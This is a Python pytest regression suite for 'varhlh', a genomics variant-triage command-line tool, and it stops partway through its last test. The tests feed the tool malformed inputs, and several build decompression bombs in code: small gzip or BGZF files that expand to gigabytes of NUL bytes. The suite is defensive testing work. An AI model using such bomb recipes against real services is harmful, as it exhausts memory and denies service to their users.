"""Issue 15 ("bad input, round 2"): every defect found by attacking varhlh, one regression test (or more)
per item. Each test failed on 0.1.0 (commit 0ec33f7) and passes now; the item number is in the test's name
and docstring. Constructed corpus files are under tests/data/malformed/constructed/ (provenance in the
README there); larger or binary cases are generated here, so their recipe is the test code itself.

Items 4, 9 and 11 of the issue are covered elsewhere (nothing assessable; MultiQC keys; pydantic import).
"""

from __future__ import annotations

import errno
import gzip
import json
import os
import resource
import shutil
import signal
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import DATA, ROOT

CONSTRUCTED = DATA / "malformed" / "constructed"
BASE = DATA / "vcf" / "prf1_hom_w374x.vcf"
TRIO = DATA / "vcf" / "trio_prf1_comphet.vcf"
TRIO_PED = DATA / "ped" / "trio_prf1_comphet.ped"
PRF1_LINE = "10\t72358355\t"
_EOF = bytes.fromhex("1f8b08040000000000ff0600424302001b0003000000000000000000")


def varhlh(*args: str, timeout: float = 120, env: dict[str, str] | None = None, **kwargs: Any
           ) -> subprocess.CompletedProcess[str]:
    """``python -m varhlh ARGS`` in a child process."""
    return subprocess.run([sys.executable, "-m", "varhlh", *args], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, **(env or {})}, **kwargs)


def one_line_refusal(err: str, code: int, expected: int) -> str:
    """Exit ``expected``, no traceback, one error line (returned)."""
    assert code == expected, err
    assert "Traceback" not in err, err
    lines = [line for line in err.splitlines() if line.startswith("varhlh: error:")]
    assert len(lines) == 1, err
    return lines[0]


def summary(data: dict[str, Any]) -> tuple[Any, ...]:
    """What a result concludes, per allele (independent of the input's path and the command line)."""
    return (data["conclusion"]["primary_hlh"], data["conclusion"]["transplant_workup"],
            [(v["id"], v["zygosity"], v["genotype"], v["classification"]) for v in data["variants"]])


def bgzf_block(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = compressor.compress(data) + compressor.flush()
    header = struct.pack("<4BI2BH2BHH", 31, 139, 8, 4, 0, 0, 255, 6, 66, 67, 2, len(body) + 25)
    return header + body + struct.pack("<II", zlib.crc32(data) & 0xFFFFFFFF, len(data))


def bgzf(chunks: list[bytes], eof: bool = True) -> bytes:
    """BGZF with a block boundary after each chunk (chunks cut into blocks of at most 65,280 bytes); identical
    blocks are compressed once, so gigabytes of NULs cost a few megabytes and milliseconds."""
    cache: dict[bytes, bytes] = {}
    out = []
    for chunk in chunks:
        for i in range(0, len(chunk), 65280):
            piece = chunk[i:i + 65280]
            if piece not in cache:
                cache[piece] = bgzf_block(piece)
            out.append(cache[piece])
    return b"".join(out) + (_EOF if eof else b"")


def with_sample(text: str, *names: str) -> str:
    """The VCF ``text`` with its sample columns renamed."""
    lines = text.splitlines(keepends=True)
    for i, line in enumerate(lines):
        if line.startswith("#CHROM"):
            fields = line.rstrip("\n").split("\t")
            lines[i] = "\t".join([*fields[:9], *names]) + "\n"
    return "".join(lines)


# ----------------------------------------------------------------------------------------------- item 1


def test_item1_sample_name_with_comma_keeps_its_genotypes(run_cli) -> None:  # type: ignore[no-untyped-def]
    """htslib's sample list is comma-separated: 'SMITH,JOHN' selected nobody, every allele became a no-call
    and the answer 'undetermined' (exit 0). Now the samples are taken by column index."""
    base = run_cli("triage", str(BASE))
    renamed = run_cli("triage", str(CONSTRUCTED / "sample_name_comma.vcf"))
    assert renamed.code == 0, renamed.err
    data = renamed.json()
    assert data["sample"]["id"] == "SMITH,JOHN"
    assert summary(data) == summary(base.json())
    assert data["conclusion"]["primary_hlh"] == "confirmed"
    assert "no_call" not in {v["zygosity"] for v in data["variants"]}


@pytest.mark.parametrize("name", ["-", "^NA12878", "A,B,C", "^"])
def test_item1_any_name_htslib_would_misread(run_cli, tmp_path: Path, name: str) -> None:  # type: ignore[no-untyped-def]
    """'-' alone means every sample to htslib; a leading '^' excludes; ',' separates."""
    vcf = tmp_path / "renamed.vcf"
    vcf.write_text(with_sample(BASE.read_text(), name))
    run = run_cli("triage", str(vcf), "--prefix", "renamed")
    assert run.code == 0, run.err
    assert summary(run.json()) == summary(run_cli("triage", str(BASE)).json())


def test_item1_trio_proband_with_caret_keeps_both_parents(run_cli) -> None:  # type: ignore[no-untyped-def]
    """A proband '^HG002' excluded itself from htslib's list and both parents were lost: 'suspected' instead of
    the trio's answer. Now the trio with the renamed proband gives exactly the trio's answer."""
    plain = run_cli("triage", str(TRIO), "--ped", str(TRIO_PED)).json()
    run = run_cli("triage", str(CONSTRUCTED / "trio_proband_caret.vcf"), "--ped",
                  str(CONSTRUCTED / "trio_proband_caret.ped"), "--prefix", "caret")
    assert run.code == 0, run.err
    data = run.json()
    assert data["sample"]["id"] == "^HG002"
    assert data["sample"]["family"]["father"] == "HG003" and data["sample"]["family"]["mother"] == "HG004"
    assert summary(data) == summary(plain)
    assert [v["family"] for v in data["variants"]] == [v["family"] for v in plain["variants"]]


def test_item1_cohort_reader_takes_misread_names_by_index(run_cli, tmp_path: Path, indexed) -> None:  # type: ignore[no-untyped-def]
    """The cohort path (region queries, genotype matrices) selects such samples by index too."""
    vcf = tmp_path / "cohort.vcf"
    vcf.write_text(with_sample(TRIO.read_text(), "^HG002", "A,B", "-"))
    run = run_cli("triage", str(indexed(vcf)), "--all-samples")
    assert run.code == 0, run.err
    names = {json.loads(p.read_text())["sample"]["id"]: json.loads(p.read_text())
             for p in run.outdir.glob("*.varhlh.json")}
    plain = run_cli("triage", str(indexed(TRIO)), "--all-samples")
    by_name = {json.loads(p.read_text())["sample"]["id"]: json.loads(p.read_text())
               for p in plain.outdir.glob("*.varhlh.json")}
    for old, new in (("HG002", "^HG002"), ("HG003", "A,B"), ("HG004", "-")):
        assert summary(names[new]) == summary(by_name[old]), new


def test_item1_reader_checks_the_samples_it_got() -> None:
    from varhlh.read.reader import VcfReader

    with VcfReader(str(CONSTRUCTED / "sample_name_comma.vcf")) as reader:
        reader.select_samples(["SMITH,JOHN"])
        records = list(reader.records({"10": [(72358355, 72358355)]}, 0))
    assert [r.calls["SMITH,JOHN"].genotype for r in records] == ["1/1"]


# ----------------------------------------------------------------------------------------------- item 2


def _bcf(tmp_path: Path) -> bytes:
    import pysam

    target = tmp_path / "full.bcf"
    with pysam.VariantFile(str(BASE)) as source, pysam.VariantFile(str(target), "wb", header=source.header) as out:
        for record in source:
            out.write(record)
    return target.read_bytes()


def _blocks(data: bytes) -> list[int]:
    offsets, i = [0], 0
    while i < len(data):
        i += struct.unpack_from("<H", data, i + 16)[0] + 1
        offsets.append(i)
    return offsets


def _bcf_cut_before_chr10(tmp_path: Path) -> bytes:
    """The BCF re-blocked so that a block boundary falls exactly before the first chr10 record, cut there (as a
    transfer that stopped at a block boundary leaves it): every record before is complete and readable."""
    import pysam

    raw = gzip.decompress(_bcf(tmp_path))
    (l_text,) = struct.unpack_from("<I", raw, 5)
    i = 9 + l_text
    with pysam.VariantFile(str(BASE)) as source:
        chr10 = source.header.contigs["10"].id
    while i < len(raw):
        l_shared, l_indiv = struct.unpack_from("<II", raw, i)
        if struct.unpack_from("<i", raw, i + 8)[0] == chr10:
            break
        i += 8 + l_shared + l_indiv
    return bgzf([raw[:i]], eof=False)  # = bgzf([raw[:i], raw[i:]]) cut at the block boundary before chr10


@pytest.mark.parametrize("cut", ["eof_marker", "block_boundary_before_chr10", "mid_block"])
def test_item2_truncated_bcf_is_refused(run_cli, tmp_path: Path, cut: str) -> None:  # type: ignore[no-untyped-def]
    """0.1.0 checked the BGZF end-of-file marker for .vcf.gz only: a BCF without it was read to the cut, exit 0
    ('undetermined' when the cut came before chr10). bcftools refuses such files; so does varhlh now."""
    data = _bcf(tmp_path)
    truncated = {"eof_marker": lambda: data[:-28], "mid_block": lambda: data[:_blocks(data)[2] + 999],
                 "block_boundary_before_chr10": lambda: _bcf_cut_before_chr10(tmp_path)}[cut]()
    path = tmp_path / "cut.bcf"
    path.write_bytes(truncated)
    run = run_cli("triage", str(path))
    one_line_refusal(run.err, run.code, 3)
    assert "truncated" in run.err and str(path) in run.err
    assert not run.outdir.exists() or list(run.outdir.iterdir()) == []


def test_item2_bcf_cut_mid_record_names_the_cause(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A cut inside a record, with an end-of-file block appended after it: the record cannot be read — the
    message says 'truncated or corrupt record', not only 'malformed value, e.g. a GT'."""
    data = _bcf(tmp_path)
    path = tmp_path / "cut.bcf"
    path.write_bytes(data[:_blocks(data)[2]] + _EOF)
    run = run_cli("triage", str(path))
    one_line_refusal(run.err, run.code, 3)
    assert "truncated or corrupt record" in run.err


def test_item2_indexed_truncated_bcf_is_refused(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from pysam import bcftools

    path = tmp_path / "full.bcf"
    path.write_bytes(_bcf(tmp_path))
    bcftools.index(str(path))
    path.write_bytes(path.read_bytes()[:-28])
    os.utime(Path(f"{path}.csi"))
    run = run_cli("triage", str(path))
    one_line_refusal(run.err, run.code, 3)
    assert "end-of-file marker is missing" in run.err


# ----------------------------------------------------------------------------------------------- item 3


def _panel_copy(tmp_path: Path) -> Path:
    target = tmp_path / "panel"
    shutil.copytree(ROOT / "gene_panels", target)
    return target / "hlh_genes.tsv"


def _edit_row(path: Path, key: str, edit: Callable[[dict[str, str]], None], key_column: str = "symbol") -> None:
    lines = path.read_text().split("\n")
    header = next(line for line in lines if line and not line.startswith("##")).split("\t")
    for i, line in enumerate(lines):
        fields = line.split("\t")
        if len(fields) == len(header) and fields[header.index(key_column)] == key:
            row = dict(zip(header, fields, strict=True))
            edit(row)
            lines[i] = "\t".join(row[c] for c in header)
            break
    path.write_text("\n".join(lines))


def _swap_builds(row: dict[str, str]) -> None:
    for end in ("start", "end"):
        row[f"grch37_{end}"], row[f"grch38_{end}"] = row[f"grch38_{end}"], row[f"grch37_{end}"]


@pytest.mark.parametrize(("edit", "expected"), [
    (_swap_builds, "does not contain the panel's own GRCh37 exon model"),
    (lambda row: row.update(grch38_end="170000000"), "past the end of chromosome 10 in GRCh38"),
    (lambda row: row.update(grch37_start="72358200"), "does not contain the panel's own GRCh37 exon model"),
])
def test_item3_self_contradicting_panel_is_invalid(run_cli, tmp_path: Path, edit: Callable[[dict[str, str]], None],  # type: ignore[no-untyped-def]
                                                   expected: str) -> None:
    """Swapped GRCh37/GRCh38 spans or a span past the chromosome end passed `panel validate` ('valid panel') and
    triage silently looked in the wrong place for PRF1 ('undetermined', exit 0)."""
    genes = _panel_copy(tmp_path)
    _edit_row(genes, "PRF1", edit)
    check = run_cli("panel", "validate", str(genes))
    one_line_refusal(check.err, check.code, 4)
    assert "gene PRF1" in check.err and expected in check.err, check.err
    triage = run_cli("triage", str(BASE), "--panel", str(genes))
    one_line_refusal(triage.err, triage.code, 4)


def test_item3_curated_allele_outside_its_gene_span_is_invalid(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    genes = _panel_copy(tmp_path)
    _edit_row(genes.parent / "hlh_known_variants.tsv", "c.1122G>A",
              lambda row: row.update(grch38_start="80598599", grch38_end="80598599"), key_column="hgvs_c")
    check = run_cli("panel", "validate", str(genes))
    one_line_refusal(check.err, check.code, 4)
    assert "does not contain the curated allele c.1122G>A (10:80598599-80598599)" in check.err


def test_item3_bundled_panel_is_consistent(run_cli) -> None:  # type: ignore[no-untyped-def]
    assert run_cli("panel", "validate", str(ROOT / "gene_panels" / "hlh_genes.tsv")).code == 0


# ----------------------------------------------------------------------------------------------- item 5


def test_item5_named_pipe_is_read_once(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A FIFO can be read once; 0.1.0 opened the path several times (hang, or 'not a VCF')."""
    fifo = tmp_path / "input.fifo"
    os.mkfifo(fifo)

    def feed() -> None:
        with fifo.open("wb") as fh:
            fh.write(BASE.read_bytes())

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    run = run_cli("triage", str(fifo))
    writer.join(10)
    assert run.code == 0, run.err
    assert summary(run.json()) == summary(run_cli("triage", str(BASE)).json())


def test_item5_process_substitution_and_dev_stdin(tmp_path: Path) -> None:
    """`varhlh triage <(zcat x.vcf.gz)` and `/dev/stdin`: the path is a pipe, spooled once like '-'."""
    gz = tmp_path / "x.vcf.gz"
    gz.write_bytes(gzip.compress(BASE.read_bytes()))
    command = (f"{sys.executable} -m varhlh triage <(zcat {gz}) -o {tmp_path / 'a'} -q --prefix p")
    substituted = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=120)
    assert substituted.returncode == 0, substituted.stderr
    with BASE.open("rb") as stdin:
        dev_stdin = varhlh("triage", "/dev/stdin", "-o", str(tmp_path / "b"), "-q", "--prefix", "p", stdin=stdin)
    assert dev_stdin.returncode == 0, dev_stdin.stderr
    a, b = (json.loads((tmp_path / d / "p.varhlh.json").read_text()) for d in "ab")
    assert summary(a) == summary(b)
    assert a["input"]["sha256"] == b["input"]["sha256"]


# ----------------------------------------------------------------------------------------------- item 6


def _stopped_by(signum: int, when: str, out: Path, tmp: Path, extra: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
    """Run triage in a child that sends itself ``signum`` at ``when``: 'reading' (the first panel record) or
    'writing' (after the outputs are staged)."""
    hook = {"reading": ("from varhlh.read import reader\n"
                        "real = reader.VcfReader.records\n"
                        "def records(self, *a, **k):\n"
                        "    for i, r in enumerate(real(self, *a, **k)):\n"
                        f"        if i == 3: os.kill(os.getpid(), {int(signum)})\n"
                        "        yield r\n"
                        "reader.VcfReader.records = records\n"),
            "writing": ("from varhlh import fileio\n"
                        "real = fileio.stage\n"
                        "def stage(*a):\n"
                        "    staged = real(*a)\n"
                        f"    os.kill(os.getpid(), {int(signum)})\n"
                        "    return staged\n"
                        "fileio.stage = stage\n")}[when]
    code = (f"import os\n{hook}from varhlh.cli import main\n"
            f"raise SystemExit(main(['triage', {str(BASE)!r}, '-o', {str(out)!r}, '-q', *{list(extra)!r}]))\n")
    return subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "TMPDIR": str(tmp)})


@pytest.mark.parametrize(("signum", "status"), [(signal.SIGTERM, 143), (signal.SIGHUP, 129)])
@pytest.mark.parametrize("when", ["reading", "writing"])
def test_item6_term_and_hup_clean_up_like_int(tmp_path: Path, signum: int, status: int, when: str) -> None:
    """SIGTERM/SIGHUP (SLURM, Snakemake, Nextflow, a closed terminal) left hidden .part files in OUTDIR and the
    patient's genotypes in $TMPDIR/varhlh-*. Now: exit 128+N, nothing left in either place."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    run = _stopped_by(signum, when, tmp_path / "out", tmp)
    assert run.returncode == status, run.stderr
    assert "Traceback" not in run.stderr and f"stopped by {signal.Signals(signum).name}" in run.stderr
    assert sorted(p.name for p in tmp.iterdir()) == []
    out = tmp_path / "out"
    assert not out.exists() or sorted(p.name for p in out.iterdir()) == []


def test_item6_term_during_a_rerun_keeps_the_previous_set(tmp_path: Path) -> None:
    out, tmp = tmp_path / "out", tmp_path / "tmp"
    tmp.mkdir()
    assert varhlh("triage", str(BASE), "-o", str(out), "-q", "--format", "json,tsv,html").returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    run = _stopped_by(signal.SIGTERM, "writing", out, tmp, ("--format", "json,tsv,vcf"))
    assert run.returncode == 143, run.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def _age(path: Path, seconds: float) -> None:
    then = time.time() - seconds
    os.utime(path, (then, then))


def test_item6_rerun_sweeps_only_provably_stale_own_files(tmp_path: Path) -> None:
    """After SIGKILL nothing can clean up; the next run removes what is provably ours and stale: private
    directories whose lock is free (their process is gone) and that are a minute old, old-style .part files and
    lock-less directories of older versions after a day — never a live run's, a fresh one or another user's."""
    import fcntl

    tmp, out = tmp_path / "tmp", tmp_path / "out"
    tmp.mkdir()
    out.mkdir()
    made: dict[str, Path] = {}
    for name, lock, age in (("varhlh-dead", True, 120), ("varhlh-young", True, 5), ("varhlh-live", True, 3600),
                            ("varhlh-legacy", False, 2 * 86400), ("varhlh-legacy-recent", False, 3600),
                            ("varhlh-other-user", True, 3600), ("unrelated-dir", True, 3600)):
        d = tmp / name
        d.mkdir()
        (d / "genotypes.npy").write_bytes(b"patient data")
        if lock:
            (d / ".varhlh.lock").touch()
        _age(d, age)
        made[name] = d
    if os.geteuid() == 0:
        os.chown(made["varhlh-other-user"], 65534, 65534)
    else:  # cannot give a directory away: stand in with one that is still locked
        other_lock = (made["varhlh-other-user"] / ".varhlh.lock").open("a")
        fcntl.flock(other_lock, fcntl.LOCK_EX)
    holder = (made["varhlh-live"] / ".varhlh.lock").open("a")
    fcntl.flock(holder, fcntl.LOCK_EX)  # a live run holds its lock
    staging = out / ".varhlh-staging-dead0000"
    staging.mkdir()
    (staging / ".varhlh.lock").touch()
    (staging / "x.varhlh.json").write_text("{}")
    _age(staging, 600)
    old_part, new_part = out / ".NA12878.varhlh.json.abcd1234.part", out / ".NA12878.varhlh.tsv.efgh5678.part"
    old_part.write_text("{")
    new_part.write_text("x")
    _age(old_part, 600)
    keep = out / "notes.txt"
    keep.write_text("mine")
    _age(keep, 86400)
    try:
        run = varhlh("triage", str(BASE), "-o", str(out), "-q", env={"TMPDIR": str(tmp)})
    finally:
        holder.close()
    assert run.returncode == 0, run.stderr
    assert sorted(p.name for p in tmp.iterdir()) == ["unrelated-dir", "varhlh-legacy-recent", "varhlh-live",
                                                      "varhlh-other-user", "varhlh-young"]
    assert sorted(p.name for p in out.iterdir()) == [new_part.name, "NA12878.varhlh.json", "NA12878.varhlh.tsv",
                                                      "notes.txt"]


def test_item6_exit_codes_are_documented() -> None:
    from varhlh.errors import ExitStatus

    readme = (ROOT / "README.md").read_text()
    for status in (ExitStatus.HANGUP, ExitStatus.TERMINATED, ExitStatus.INTERRUPTED):
        assert f"| {int(status)} |" in readme, status


# ----------------------------------------------------------------------------------------------- item 7


def _measured(*args: str, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run varhlh in a child that reports its own peak resident memory (MiB) on its last stderr line."""
    code = ("import resource, sys\n"
            "from varhlh.cli import main\n"
            "status = main(sys.argv[1:])\n"
            "sys.stderr.write(f'\\nMAXRSS {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}\\n')\n"
            "raise SystemExit(status)\n")
    run = subprocess.run([sys.executable, "-c", code, *args, "-o", str(tmp_path / "out")], capture_output=True,
                         text=True, timeout=120)
    peak = int(run.stderr.rstrip().rsplit("MAXRSS ", 1)[1]) / 1024
    return run, peak


def _header() -> bytes:
    text = BASE.read_bytes()
    return text[:text.index(b"\n", text.index(b"#CHROM")) + 1]


def _prf1_record() -> bytes:
    text = BASE.read_text()
    return next(line for line in text.splitlines() if line.startswith(PRF1_LINE)).encode() + b"\n"


def test_item7_dev_zero_is_refused_at_once(tmp_path: Path) -> None:
    """`varhlh triage /dev/zero` grew ~200 MB/s, ignored Ctrl-C and was OOM-killed; now one chunk is read."""
    started = time.monotonic()
    run = varhlh("triage", "/dev/zero", "-o", str(tmp_path / "out"), timeout=60)
    one_line_refusal(run.stderr, run.returncode, 3)
    assert "not a VCF" in run.stderr and time.monotonic() - started < 30


@pytest.mark.parametrize("packing", ["gzip", "bgzf"])
def test_item7_gzip_bomb_of_nuls_is_refused_in_bounded_memory(tmp_path: Path, packing: str) -> None:
    """A few MB of gzip: a header, then 2 GiB of NULs without a newline. 0.1.0: MemoryError traceback. Now the line
    is refused once it exceeds max_line_bytes (64 MiB), in bounded memory."""
    nuls = b"\0" * (1 << 24)
    path = tmp_path / f"bomb.{packing}.vcf.gz"
    if packing == "gzip":  # gzip members may be concatenated: one compressed 16-MiB member, written 128 times
        member = gzip.compress(nuls, 9, mtime=0)
        path.write_bytes(gzip.compress(_header(), mtime=0) + member * 128)
    else:
        path.write_bytes(bgzf([_header(), *([nuls] * 128)]))
    assert path.stat().st_size < 8 << 20
    run, peak = _measured("triage", str(path), tmp_path=tmp_path)
    one_line_refusal(run.stderr, run.returncode, 3)
    assert "longer than max_line_bytes (67,108,864 bytes" in run.stderr and "NUL" in run.stderr
    assert peak < 1024, f"peak RSS {peak:.0f} MiB"


def test_item7_one_gigabyte_info_value_is_refused(tmp_path: Path) -> None:
    """A record whose INFO holds 1 GiB (1 MB on disk, after the PRF1 record): refused, not a MemoryError."""
    line_start = b"10\t72358400\t.\tC\tT\t50\tPASS\tJUNK="
    path = tmp_path / "huge_info.vcf.gz"
    path.write_bytes(bgzf([_header(), _prf1_record(), line_start, *([b"A" * (1 << 24)] * 64), b"\tGT\t0/1\n"]))
    run, peak = _measured("triage", str(path), tmp_path=tmp_path)
    one_line_refusal(run.stderr, run.returncode, 3)
    assert "after 10:72358355 is longer than max_line_bytes" in run.stderr
    assert peak < 1024, f"peak RSS {peak:.0f} MiB"


def test_item7_limit_is_a_setting(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    config = tmp_path / "settings.toml"
    config.write_text("max_line_bytes = 65536\n")
    path = tmp_path / "long.vcf"
    path.write_bytes(_header() + _prf1_record() + b"10\t72358400\t.\tC\tT\t50\tPASS\tJUNK=" + b"A" * 100_000
                     + b"\tGT\t0/1\n")
    assert run_cli("triage", str(path), "--prefix", "a").code == 0
    run = run_cli("triage", str(path), "--config", str(config), "--prefix", "b")
    one_line_refusal(run.err, run.code, 3)
    assert "max_line_bytes (65,536 bytes" in run.err


@pytest.mark.parametrize(("option", "status"), [("--config", 4), ("--clinical", 3), ("--ped", 3), ("--panel", 4)])
def test_item7_small_inputs_from_dev_zero_are_refused_at_once(tmp_path: Path, option: str, status: int) -> None:
    """`--config /dev/zero` read forever; every small input is now read once, up to its size limit."""
    started = time.monotonic()
    run = varhlh("triage", str(BASE), option, "/dev/zero", "-o", str(tmp_path / "out"), timeout=60)
    one_line_refusal(run.stderr, run.returncode, status)
    assert time.monotonic() - started < 30
    assert "/dev/zero" in run.stderr


def test_item7_report_of_dev_zero(tmp_path: Path) -> None:
    run = varhlh("report", "/dev/zero", "-o", str(tmp_path), timeout=60)
    one_line_refusal(run.stderr, run.returncode, 3)


def test_item7_ctrl_c_works_while_an_endless_stream_is_spooled(tmp_path: Path) -> None:
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    process = subprocess.Popen([sys.executable, "-m", "varhlh", "triage", "-", "-o", str(tmp_path / "out")],
                               stdin=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, "TMPDIR": str(tmp)})
    assert process.stdin is not None
    stop = threading.Event()

    def feed() -> None:
        try:
            process.stdin.write(b"##fileformat=VCFv4.2\n")  # type: ignore[union-attr]
            while not stop.is_set():
                process.stdin.write(b"##x=" + b"y" * 4000 + b"\n")  # type: ignore[union-attr]
        except (BrokenPipeError, ValueError, OSError):
            pass

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    time.sleep(2)
    process.send_signal(signal.SIGINT)
    try:
        code = process.wait(20)
    finally:
        stop.set()
        process.kill()
    assert code == 130
    assert list(tmp.iterdir()) == []


# ----------------------------------------------------------------------------------------------- item 8


def test_item8_yaml_alias_bomb_is_refused_in_one_short_line(run_cli) -> None:  # type: ignore[no-untyped-def]
    """A 342-byte alias bomb gave a 522-MB one-line error (the expanded value was echoed)."""
    bomb = CONSTRUCTED / "clinical_alias_bomb.yaml"
    assert bomb.stat().st_size < 400
    started = time.monotonic()
    run = run_cli("triage", str(BASE), "--clinical", str(bomb))
    line = one_line_refusal(run.err, run.code, 3)
    assert "anchors (&name) are not accepted" in line
    assert len(line) < 400 and time.monotonic() - started < 30


def test_item8_aliases_alone_are_refused_too(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "alias.yaml"
    path.write_text("ferritin_ug_per_l: &f 12500\nhlh_course: active\n")
    run = run_cli("triage", str(BASE), "--clinical", str(path))
    one_line_refusal(run.err, run.code, 3)


def test_item8_echoed_values_are_cut(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "long.yaml"
    path.write_text("hlh_course: " + "x" * 200_000 + "\n")
    run = run_cli("triage", str(BASE), "--clinical", str(path))
    line = one_line_refusal(run.err, run.code, 3)
    assert len(line) < 400 and "(200,000 characters)" in line


# ----------------------------------------------------------------------------------------------- item 10


def _concurrent_writer(outdir: Path, tag: str, rounds: int, barrier: Any, document: Any) -> None:
    from varhlh.report import output

    payload = {"json": "varhlh.json", "tsv": "varhlh.tsv", "multiqc": "varhlh_mqc.json"}
    output.renderer = lambda name: (lambda _context: [(payload[name], (tag * 200_000).encode())])  # type: ignore[assignment]
    for _ in range(rounds):
        barrier.wait()
        output.write_outputs(output.RenderContext(document, "P"), outdir, ["json", "tsv", "multiqc"], [])
        barrier.wait()
        barrier.wait()  # the parent has looked


def test_item10_concurrent_runs_never_leave_a_mixed_set(tmp_path: Path) -> None:
    """Two runs writing one prefix into one directory left a mixed set in 3 of 25 trials (JSON from one run,
    TSV/MultiQC from the other). Writes are now serialised by a lock on the directory and swapped in as a set."""
    import multiprocessing

    from varhlh.report.stored import load_result

    first = varhlh("triage", str(BASE), "-o", str(tmp_path / "seed"), "-q")
    assert first.returncode == 0
    document = load_result(tmp_path / "seed" / "NA12878.varhlh.json")
    context = multiprocessing.get_context("fork")
    rounds = 30
    barrier = context.Barrier(3)
    outdir = tmp_path / "out"
    writers = [context.Process(target=_concurrent_writer, args=(outdir, tag, rounds, barrier, document))
               for tag in "AB"]
    for writer in writers:
        writer.start()
    mixed = 0
    try:
        for _ in range(rounds):
            barrier.wait(60)
            barrier.wait(60)
            tags = {p.read_bytes()[:1] for p in outdir.glob("P.*")}
            mixed += len(tags) != 1
            barrier.wait(60)
    finally:
        for writer in writers:
            writer.join(60)
    assert mixed == 0, f"{mixed} of {rounds} rounds left a mixed set"
    assert sorted(p.name for p in outdir.iterdir()) == ["P.varhlh.json", "P.varhlh.tsv", "P.varhlh_mqc.json"]


# ----------------------------------------------------------------------------------------------- item 12


@pytest.mark.parametrize(("suffix", "damage"), [
    (".tbi", lambda good: bytes((i * 37 + 11) % 256 for i in range(4096))),
    (".csi", lambda good: bytes((i * 37 + 11) % 256 for i in range(4096))),
    (".tbi", lambda good: good[:100]),
    (".tbi", lambda good: gzip.compress(b"TBI\x01" + b"\xff" * 40)),
])
def test_item12_corrupt_index_is_ignored_with_a_note(run_cli, tmp_path: Path, indexed, suffix: str,  # type: ignore[no-untyped-def]
                                                     damage: Callable[[bytes], bytes]) -> None:
    """A .tbi of random bytes raised gzip.BadGzipFile (traceback); the README promises a bad index is not used."""
    source = indexed(BASE)
    data = tmp_path / "x.vcf.gz"
    shutil.copy(source, data)
    index = Path(f"{data}{suffix}")
    index.write_bytes(damage(Path(f"{source}.tbi").read_bytes()))
    run = run_cli("triage", str(data))
    assert run.code == 0, run.err
    result = run.json()
    assert result["input"]["access"].startswith("streamed") and index.name in result["input"]["access"]
    assert summary(result) == summary(run_cli("triage", str(BASE)).json())


# ----------------------------------------------------------------------------------------------- item 13

PHASED = DATA / "vcf" / "prf1_comphet_phased_trans.vcf"


@pytest.fixture
def fasta_copy(tmp_path: Path) -> Callable[..., Path]:
    """A fresh copy of the constructed GRCh37 FASTA (bgzip, .fai, .gzi) that a test may damage."""
    from reference_fasta import write_fasta

    def make(name: str = "ref.fa.gz", directory: Path | None = None, **kwargs: Any) -> Path:
        target = directory or tmp_path / "fasta"
        target.mkdir(parents=True, exist_ok=True)
        return write_fasta(target, name=name, **kwargs)

    return make


def _fasta_run(run_cli, fasta: Path, *extra: str) -> Any:  # type: ignore[no-untyped-def]
    return run_cli("triage", str(PHASED), "--fasta", str(fasta), *extra)


@pytest.mark.parametrize("cut", ["eof_marker", "mid_block"])
def test_item13_truncated_bgzf_fasta_is_refused(run_cli, fasta_copy, cut: str) -> None:  # type: ignore[no-untyped-def]
    """A truncated BGZF FASTA gave a pysam traceback (exit 1); now exit 3 naming the file."""
    fasta = fasta_copy()
    data = fasta.read_bytes()
    fasta.write_bytes(data[:-28] if cut == "eof_marker" else data[:len(data) // 2])
    run = _fasta_run(run_cli, fasta)
    line = one_line_refusal(run.err, run.code, 3)
    assert str(fasta) in line and "truncated" in line


@pytest.mark.parametrize("index", [".fai", ".gzi"])
def test_item13_another_fastas_index_is_refused(run_cli, fasta_copy, tmp_path: Path, index: str) -> None:  # type: ignore[no-untyped-def]
    fasta = fasta_copy()
    other = fasta_copy("other.fa.gz", tmp_path / "other", segments={"1": [(5000, "ACGT")], "10": [(900, "A")]},
                       prefix="chr" if index == ".fai" else "")
    shutil.copy(Path(f"{other}{index}"), Path(f"{fasta}{index}"))
    run = _fasta_run(run_cli, fasta)
    line = one_line_refusal(run.err, run.code, 3)
    assert "samtools faidx" in line


def test_item13_truncated_plain_fasta_with_its_old_index_is_refused(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import pysam

    plain = tmp_path / "plain.fa"
    with plain.open("w") as out:
        for name, length in (("1", 1000), ("10", 5000)):
            sequence = "ACGT" * (length // 4)
            out.write(f">{name}\n" + "".join(sequence[i:i + 60] + "\n" for i in range(0, length, 60)))
    pysam.faidx(str(plain))
    plain.write_bytes(plain.read_bytes()[:-100])
    run = _fasta_run(run_cli, plain)
    line = one_line_refusal(run.err, run.code, 3)
    assert "ends before the last base of 10" in line


def test_item13_unindexed_fasta_is_indexed_privately(run_cli, fasta_copy, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """0.1.0 wrote .fai/.gzi next to the user's reference (read-only stores, races between runs)."""
    indexed_fasta = fasta_copy()
    bare_dir = tmp_path / "store"
    bare_dir.mkdir()
    bare = bare_dir / "ref.fa.gz"
    shutil.copy(indexed_fasta, bare)
